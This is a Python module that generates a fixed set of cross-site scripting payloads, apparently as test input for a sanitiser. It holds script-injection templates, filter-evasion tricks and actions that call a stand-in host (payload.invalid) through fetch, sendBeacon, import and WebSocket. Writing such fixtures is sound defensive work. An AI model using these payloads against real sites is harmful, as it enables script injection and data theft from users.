"""Words that try to become markup, script or a request when a page shows them."""

import itertools
from collections.abc import Sequence

_WAYS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</SCRIPT ><script>{}</script>",
    "<!--<script>{}",
    "--><script>{}</script>",
    "<img src=x onerror={}>",
    "<img src=http://payload.invalid/{} />",
    "<svg/onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<a href=javascript:{}>read more</a>",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<link rel=stylesheet href=http://payload.invalid/{}>",
    "<style>@import 'http://payload.invalid/{}';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=http://payload.invalid/{}>",
    "<form action=http://payload.invalid/{}><button autofocus>",
    "<object data=data:text/html,{}></object>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\u2028{}\u2029",
    "${{{}}} `+{}+` {{{{{}}}}}",
    '"}}]}}</script><script>{}//',
    "'-{}-' \"-{}-\"",
    "\x00\x08<script\x00>{}</script>",
    "<scr\u00adipt>{}</script>",
)
_ACTS = (
    "window.ran=1",
    "alert(1)",
    "fetch('http://payload.invalid/')",
    "navigator.sendBeacon('http://payload.invalid/')",
    "new Image().src='http://payload.invalid/'",
    "document.title='ran'",
    "location='http://payload.invalid/'",
    "document.body.innerHTML='ran'",
    "import('http://payload.invalid/x.js')",
    "new WebSocket('ws://payload.invalid/')",
    "top.ran=1",
    "eval('window.ran=1')",
    "setTimeout('window.ran=1')",
    "Function('window.ran=1')()",
    "(()=>{window.ran=1})()",
    "window['r'+'an']=1",
)
_FRAMES = ("{}", "x\"'>{}", "{}\r\n{}")


def payloads(number: int) -> Sequence[str]:
    """``number`` different payloads, the same ones each time; at most 1,584."""
    made = (
        frame.replace("{}", way.replace("{}", act).replace("{{", "{").replace("}}", "}"))
        for frame, act, way in itertools.product(_FRAMES, _ACTS, _WAYS)
    )
    found = list(itertools.islice(dict.fromkeys(made), number))
    if len(found) < number:
        raise ValueError(f"only {len(found)} payloads can be made")
    return found
